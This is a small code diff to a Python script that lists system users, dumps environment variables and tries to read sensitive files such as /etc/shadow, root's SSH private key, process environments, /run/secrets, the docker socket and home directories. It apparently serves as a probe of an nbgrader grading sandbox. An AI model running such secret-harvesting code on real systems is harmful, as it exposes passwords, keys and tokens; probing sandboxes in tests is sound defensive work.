@@ -12,9 +12,10 @@ import os
 import pwd
 
 print([user.pw_name for user in pwd.getpwall()], dict(os.environ))
-paths = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/etc/hosts", "/proc/mounts",
+paths = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/mounts",
          "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "@COURSE@/nbgrader_config.py",
          "/run/secrets", "/var/run/docker.sock", os.path.expanduser("~root/.ssh/id_rsa")]
+paths += [os.path.expanduser("~root/.bashrc")]
 for path in [*paths, *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/home/*/*")]:
     try:
         print(path, open(path, "rb").read())
